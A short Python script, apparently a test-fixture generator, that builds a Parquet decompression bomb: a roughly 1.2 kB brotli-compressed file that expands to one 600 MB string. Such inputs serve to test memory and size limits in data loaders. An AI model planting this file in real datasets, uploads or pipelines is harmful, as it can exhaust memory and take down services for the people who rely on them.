"""Writes bomb.parquet: 1.2 kB that unpack to one text of 600 MB.

    python make_parquet_bomb.py        made with pyarrow 26.0.1
"""
import pyarrow as pa
import pyarrow.parquet as pq

table = pa.table({"text": pa.array(["x" * (600 << 20)], pa.large_string()), "label": pa.array([0])})
pq.write_table(table, "bomb.parquet", compression="brotli", use_dictionary=False, write_statistics=False,
               store_schema=False)
